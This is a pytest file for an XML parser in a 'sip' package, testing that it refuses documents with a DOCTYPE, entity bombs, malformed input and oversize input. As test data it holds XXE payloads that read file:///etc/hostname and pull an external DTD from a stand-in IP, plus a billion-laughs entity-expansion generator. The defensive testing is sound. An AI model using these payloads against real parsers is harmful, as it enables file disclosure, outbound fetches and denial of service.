import time

import pytest

from sip import xml
from sip.errors import QueryError, TooMuch

LIMIT = 1_000_000
SECRET = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % e SYSTEM "http://203.0.113.1/e.dtd"> %e;]><a/>'


def bomb(*, place: str) -> str:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE a [<!ENTITY e0 "ha">{levels}]>' + place.replace("@", "&e11;")


def test_a_plain_document_is_read_without_comments():
    root = xml.parse(b"<a><!-- no -->  text <b>more</b></a>", limit_bytes=LIMIT)
    assert (xml.local(root), xml.text(root), len(root)) == ("a", "text more", 1)


@pytest.mark.parametrize("text", [SECRET, PARAMETER, "<!DOCTYPE a><a/>"])
def test_a_document_type_is_refused_and_nothing_is_fetched(text):
    with pytest.raises(QueryError):
        xml.parse(text.encode(), limit_bytes=LIMIT)


@pytest.mark.parametrize("place", ["<a>@</a>", '<a b="@"/>'])
def test_an_entity_bomb_is_refused_at_once(place):
    began = time.perf_counter()
    with pytest.raises(QueryError):
        xml.parse(bomb(place=place).encode(), limit_bytes=LIMIT)
    assert time.perf_counter() - began < 1


@pytest.mark.parametrize("text", ["", "<a>", "no xml", "<a>\x00</a>"])
def test_what_is_not_well_formed_is_refused(text):
    with pytest.raises(QueryError):
        xml.parse(text.encode(), limit_bytes=LIMIT)


def test_a_document_longer_than_the_limit_is_not_even_looked_at():
    with pytest.raises(TooMuch):
        xml.parse(b"<" * 11, limit_bytes=10)
